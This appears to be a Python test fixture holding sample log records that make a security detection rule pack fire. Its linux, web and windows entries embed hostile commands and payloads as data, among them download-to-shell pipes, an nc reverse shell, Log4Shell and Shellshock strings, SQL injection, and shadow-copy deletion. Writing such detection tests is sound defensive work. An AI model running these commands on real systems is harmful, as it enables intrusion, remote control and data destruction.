# ruff: noqa: E501  (raw log lines are kept whole, one per line, so they read as they appear in a log)
"""Positive samples for the shipped rule pack, written for these tests (no third-party log data).

``SAMPLES`` maps a rule file (``folder/stem``) to raw records that must make it fire: syslog lines,
access log lines, FortiGate key=value lines, Cisco ASA lines, or Windows events in the EVTX-as-JSON
shape. ``CORRELATION_SAMPLES`` maps a correlation rule to the stream of records that completes it.
"""

from __future__ import annotations

from typing import Any

from tests.normalizers.windows_records import AUDIT_FAILURE, SECURITY, SYSMON, evtx_record

ATTACKER = "203.0.113.7"
HOST = "web01"


def syslog(second: int, program: str, message: str, host: str = HOST) -> str:
    """A BSD syslog line at 10:MM:SS on 20 Nov (the tests receive records in November 2026)."""
    minute, sec = divmod(second, 60)
    return f"<38>Nov 20 10:{minute:02d}:{sec:02d} {host} {program}: {message}"


def access(uri: str, *, status: int = 200, agent: str = "Mozilla/5.0", referer: str = "-", second: int = 0) -> str:
    """A Combined Log Format line from the attacker."""
    return (
        f'{ATTACKER} - - [20/Nov/2026:10:00:{second:02d} +0000] "GET {uri} HTTP/1.1" {status} 512 "{referer}" "{agent}"'
    )


def ufw_block(port: int, destination: str = "10.0.0.5", second: int = 0) -> str:
    """A netfilter LOG line of a blocked SYN from the attacker."""
    return syslog(
        second,
        "kernel",
        f"[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC={ATTACKER} DST={destination} "
        f"LEN=44 TOS=0x00 PREC=0x00 TTL=49 ID=54321 PROTO=TCP SPT=40000 DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0",
        host="fw01",
    )


def fortigate(fields: str) -> str:
    """A FortiOS key=value log line (no syslog header, as FortiGate sends to a file collector)."""
    return f'date=2026-11-20 time=10:00:01 devname="FGT-EDGE" devid="FGT60F0000000001" tz="+0000" {fields}'


def security(event_id: int, data: dict[str, Any], **kwargs: Any) -> dict[str, Any]:
    """A Security channel event record."""
    return evtx_record(SECURITY, event_id, data, **kwargs)


def process(image: str, command_line: str, parent: str = "C:\\Windows\\explorer.exe") -> dict[str, Any]:
    """A Sysmon 1 process creation record."""
    return evtx_record(
        SYSMON,
        1,
        {
            "RuleName": "-",
            "UtcTime": "2026-11-20 08:15:30.123",
            "ProcessGuid": "{6b1f4d2e-1c3a-6a3e-0f01-000000002a00}",
            "ProcessId": "4242",
            "Image": image,
            "CommandLine": command_line,
            "CurrentDirectory": "C:\\Users\\anna\\",
            "User": "CORP\\anna",
            "IntegrityLevel": "Medium",
            "ParentImage": parent,
            "ParentCommandLine": parent,
        },
    )


def failed_logon(user: str, address: str = ATTACKER) -> dict[str, Any]:
    """A 4625 network logon failure from an address."""
    return security(
        4625,
        {
            "SubjectUserSid": "S-1-0-0",
            "TargetUserName": user,
            "TargetDomainName": "CORP",
            "Status": "0xc000006d",
            "SubStatus": "0xc000006a",
            "LogonType": "3",
            "WorkstationName": "KALI",
            "IpAddress": address,
            "IpPort": "51234",
        },
        keywords=AUDIT_FAILURE,
    )


SAMPLES: dict[str, list[Any]] = {
    # linux
    "linux/ssh_failed_login": [syslog(1, "sshd[2101]", f"Failed password for alice from {ATTACKER} port 51022 ssh2")],
    "linux/ssh_invalid_user": [syslog(1, "sshd[2101]", f"Invalid user oracle from {ATTACKER} port 51022")],
    "linux/ssh_login_success": [
        syslog(1, "sshd[2101]", f"Accepted password for alice from {ATTACKER} port 51022 ssh2")
    ],
    "linux/ssh_root_login": [
        syslog(1, "sshd[2101]", f"Accepted publickey for root from {ATTACKER} port 51022 ssh2: RSA SHA256:abcdef")
    ],
    "linux/ssh_too_many_auth_failures": [
        syslog(
            1,
            "sshd[2101]",
            f"Disconnecting authenticating user root {ATTACKER} port 51022: Too many authentication failures [preauth]",
        )
    ],
    "linux/ssh_break_in_attempt": [
        syslog(
            1,
            "sshd[2101]",
            f"reverse mapping checking getaddrinfo for host.example.net [{ATTACKER}] failed - "
            "POSSIBLE BREAK-IN ATTEMPT!",
        )
    ],
    "linux/user_created": [
        syslog(
            1,
            "useradd[3001]",
            "new user: name=backdoor, UID=1005, GID=1005, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0",
        )
    ],
    "linux/user_added_to_admin_group": [syslog(1, "usermod[3002]", "add 'backdoor' to group 'sudo'")],
    "linux/sudoers_modified": [
        syslog(
            1,
            "sudo",
            "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/tee -a /etc/sudoers.d/99-backdoor",
        )
    ],
    "linux/sudo_root_shell": [
        syslog(1, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash")
    ],
    "linux/sudo_not_in_sudoers": [
        syslog(
            1,
            "sudo",
            "  mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/mallory ; USER=root ; COMMAND=/bin/cat /etc/shadow",
        )
    ],
    "linux/sudo_auth_failure": [
        syslog(
            1,
            "sudo",
            "  mallory : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/mallory ; USER=root ; COMMAND=/bin/ls",
        )
    ],
    "linux/su_failure": [syslog(1, "su[4001]", "FAILED SU (to root) mallory on pts/1")],
    "linux/crontab_modified": [syslog(1, "crontab[5001]", "(www-data) REPLACE (www-data)")],
    "linux/cron_download_to_shell": [
        syslog(1, "CRON[5002]", "(www-data) CMD (curl -fsSL http://198.51.100.66/x.sh | sh)")
    ],
    "linux/sudo_download_to_shell": [
        syslog(
            1,
            "sudo",
            "   alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c wget -qO- http://198.51.100.66/i | bash",
        )
    ],
    "linux/sudo_reverse_shell": [
        syslog(1, "sudo", "   alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/nc -e /bin/sh 198.51.100.66 4444")
    ],
    "linux/sudo_base64_to_shell": [
        syslog(
            1,
            "sudo",
            "   alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c echo Y3VybCBldmls | base64 -d | sh",
        )
    ],
    "linux/account_locked": [
        syslog(
            1,
            "sshd[2101]",
            "pam_faillock(sshd:auth): Consecutive login failures for user alice account temporarily locked",
        )
    ],
    # web
    "web/sql_injection": [access("/products.php?id=1%20union%20select%20username,password%20from%20users--")],
    "web/path_traversal": [access("/download.php?file=../../../../etc/passwd")],
    "web/xss": [access("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")],
    "web/webshell_access": [access("/uploads/images/shell.php?cmd=id")],
    "web/scanner_user_agent": [access("/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)")],
    "web/sensitive_file_access": [access("/.git/config", status=404), access("/.env", status=404)],
    "web/log4shell": [access("/", agent="${jndi:ldap://198.51.100.66:1389/a}")],
    "web/shellshock": [access("/cgi-bin/status", agent="() { :; }; /bin/bash -c 'id'")],
    "web/command_injection": [access("/ping.php?host=127.0.0.1;wget%20http://198.51.100.66/x")],
    "web/web_auth_denied": [access("/admin/", status=401)],
    # network
    "network/firewall_denied": [
        ufw_block(22),
        fortigate(
            'logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=203.0.113.7 srcport=40000 '
            'srcintf="wan1" dstip=10.0.0.5 dstport=3389 dstintf="lan" proto=6 action="deny" policyid=0 service="RDP"'
        ),
    ],
    "network/fortigate_ips": [
        fortigate(
            'logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" severity="critical" '
            'srcip=203.0.113.7 srcport=40000 dstip=10.0.0.5 dstport=80 proto=6 action="dropped" '
            'attack="Apache.Log4j.Error.Log.Remote.Code.Execution" msg="web_server: Apache.Log4j.Error.Log.Remote.Code.Execution"'
        )
    ],
    "network/fortigate_virus": [
        fortigate(
            'logid="0211008192" type="utm" subtype="virus" eventtype="infected" level="warning" srcip=10.0.0.23 '
            'dstip=198.51.100.66 dstport=80 proto=6 action="blocked" service="HTTP" filename="invoice.exe" '
            'virus="W32/Agent.XYZ!tr" msg="File is infected."'
        )
    ],
    "network/fortigate_admin_login_failed": [
        fortigate(
            'logid="0100032002" type="event" subtype="system" level="alert" logdesc="Admin login failed" '
            'user="admin" ui="https(203.0.113.7)" srcip=203.0.113.7 action="login" status="failed" '
            'reason="passwd_invalid" msg="Administrator admin login failed from https(203.0.113.7) because of invalid password"'
        )
    ],
    "network/fortigate_config_change": [
        fortigate(
            'logid="0100044546" type="event" subtype="system" level="information" logdesc="Attribute configured" '
            'user="admin" ui="ssh(203.0.113.7)" action="Delete" cfgpath="firewall.policy" cfgobj="12" msg="Delete firewall.policy 12"'
        )
    ],
    "network/asa_threat_detection": [
        "<164>Nov 20 2026 10:00:01: %ASA-4-733100: [ Scanning] drop rate-1 exceeded. Current burst rate is 10 per second, "
        "max configured rate is 10; Current average rate is 5 per second, max configured rate is 5; Cumulative total count is 3000"
    ],
    # windows
    "windows/logon_failed": [failed_logon("administrator")],
    "windows/user_created": [
        security(
            4720,
            {
                "TargetUserName": "svc-backup2",
                "TargetDomainName": "CORP",
                "TargetSid": "S-1-5-21-1-2-3-1120",
                "SubjectUserName": "anna",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x3e7",
            },
        )
    ],
    "windows/privileged_group_member_added": [
        security(
            4732,
            {
                "MemberName": "-",
                "MemberSid": "S-1-5-21-1-2-3-1120",
                "TargetUserName": "Administrators",
                "TargetDomainName": "Builtin",
                "TargetSid": "S-1-5-32-544",
                "SubjectUserName": "anna",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x3e7",
            },
        )
    ],
    "windows/audit_log_cleared": [
        evtx_record(
            ("Microsoft-Windows-Eventlog", "FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148", "Security"),
            1102,
            None,
            user_data={
                "LogFileCleared": {
                    "SubjectUserSid": "S-1-5-21-1-2-3-1105",
                    "SubjectUserName": "anna",
                    "SubjectDomainName": "CORP",
                    "SubjectLogonId": "0x3e7",
                }
            },
        )
    ],
    "windows/scheduled_task_created": [
        security(
            4698,
            {
                "SubjectUserName": "anna",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x3e7",
                "TaskName": "\\Updater",
                "TaskContent": "<Task><Actions><Exec><Command>C:\\Users\\Public\\u.exe</Command></Exec></Actions></Task>",
            },
        )
    ],
    "windows/service_installed": [
        security(
            4697,
            {
                "SubjectUserName": "anna",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x3e7",
                "ServiceName": "PSEXESVC",
                "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": "0x10",
                "ServiceStartType": "3",
                "ServiceAccount": "LocalSystem",
            },
        )
    ],
    "windows/rdp_logon_external": [
        security(
            4624,
            {
                "TargetUserName": "anna",
                "TargetDomainName": "CORP",
                "TargetLogonId": "0x5a3f1",
                "LogonType": "10",
                "IpAddress": ATTACKER,
                "IpPort": "50123",
                "WorkstationName": "KALI",
            },
        )
    ],
    "windows/explicit_credentials_logon": [
        security(
            4648,
            {
                "SubjectUserName": "anna",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x5a3f1",
                "TargetUserName": "administrator",
                "TargetDomainName": "CORP",
                "TargetServerName": "DC01",
                "ProcessName": "C:\\Windows\\System32\\runas.exe",
                "IpAddress": "-",
                "IpPort": "-",
            },
        )
    ],
    "windows/encoded_powershell": [
        process(
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        )
    ],
    "windows/certutil_download": [
        process(
            "C:\\Windows\\System32\\certutil.exe",
            "certutil.exe -urlcache -split -f http://198.51.100.66/p.exe C:\\Users\\Public\\p.exe",
        )
    ],
    "windows/rundll32_unusual_path": [
        process(
            "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Users\\anna\\AppData\\Local\\Temp\\x.dll,DllMain"
        )
    ],
    "windows/mshta_execution": [process("C:\\Windows\\System32\\mshta.exe", "mshta.exe http://198.51.100.66/a.hta")],
    "windows/regsvr32_scrobj": [
        process("C:\\Windows\\System32\\regsvr32.exe", "regsvr32.exe /s /n /u /i:http://198.51.100.66/f.sct scrobj.dll")
    ],
    "windows/vssadmin_delete_shadows": [
        process("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")
    ],
    "windows/wmic_shadowcopy_delete": [
        process("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic shadowcopy delete /nointeractive")
    ],
    "windows/office_spawns_shell": [
        process(
            "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c powershell -w hidden iwr http://198.51.100.66/a",
            parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        )
    ],
    "windows/lsass_access": [
        evtx_record(
            SYSMON,
            10,
            {
                "RuleName": "-",
                "UtcTime": "2026-11-20 08:15:30.123",
                "SourceProcessGUID": "{6b1f4d2e-1c3a-6a3e-0f01-000000002b00}",
                "SourceProcessId": "5120",
                "SourceThreadId": "5124",
                "SourceImage": "C:\\Users\\anna\\Downloads\\mimikatz.exe",
                "TargetProcessGUID": "{6b1f4d2e-1c3a-6a3e-0f01-000000000c00}",
                "TargetProcessId": "712",
                "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                "GrantedAccess": "0x1010",
                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4",
                "SourceUser": "CORP\\anna",
                "TargetUser": "NT AUTHORITY\\SYSTEM",
            },
        )
    ],
    "windows/run_key_persistence": [
        evtx_record(
            SYSMON,
            13,
            {
                "RuleName": "-",
                "EventType": "SetValue",
                "UtcTime": "2026-11-20 08:15:30.123",
                "ProcessGuid": "{6b1f4d2e-1c3a-6a3e-0f01-000000002a00}",
                "ProcessId": "4242",
                "Image": "C:\\Users\\anna\\AppData\\Local\\Temp\\dropper.exe",
                "TargetObject": "HKU\\S-1-5-21-1-2-3-1105\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                "Details": "C:\\Users\\anna\\AppData\\Roaming\\updater.exe",
                "User": "CORP\\anna",
            },
        )
    ],
}

CORRELATION_SAMPLES: dict[str, list[Any]] = {
    "linux/ssh_brute_force": [
        syslog(i, "sshd[2101]", f"Failed password for root from {ATTACKER} port {51000 + i} ssh2") for i in range(10)
    ],
    "linux/ssh_password_spray": [
        syslog(i, "sshd[2101]", f"Failed password for {user} from {ATTACKER} port {51000 + i} ssh2")
        for i, user in enumerate(["alice", "bob", "carol", "dave", "erin"])
    ],
    "linux/ssh_invalid_user_probing": [
        syslog(i, "sshd[2101]", f"Invalid user {user} from {ATTACKER} port {51000 + i}")
        for i, user in enumerate(["oracle", "test", "admin", "ubuntu", "postgres"])
    ],
    "linux/ssh_login_after_brute_force": [
        *(
            syslog(i, "sshd[2101]", f"Failed password for root from {ATTACKER} port {51000 + i} ssh2")
            for i in range(10)
        ),
        syslog(30, "sshd[2101]", f"Accepted password for root from {ATTACKER} port 51100 ssh2"),
    ],
    "linux/su_failure_burst": [syslog(i, "su[4001]", "FAILED SU (to root) mallory on pts/1") for i in range(5)],
    "web/web_auth_denied_burst": [access("/wp-login.php", status=401, second=i) for i in range(20)],
    "network/firewall_port_scan": [ufw_block(port, second=i % 50) for i, port in enumerate(range(20, 35))],
    "network/firewall_host_sweep": [ufw_block(445, destination=f"10.0.1.{i}", second=i) for i in range(1, 21)],
    "windows/logon_brute_force": [failed_logon("administrator") for _ in range(10)],
    "windows/logon_password_spray": [failed_logon(user) for user in ("anna", "ben", "chris", "dora", "emil")],
}
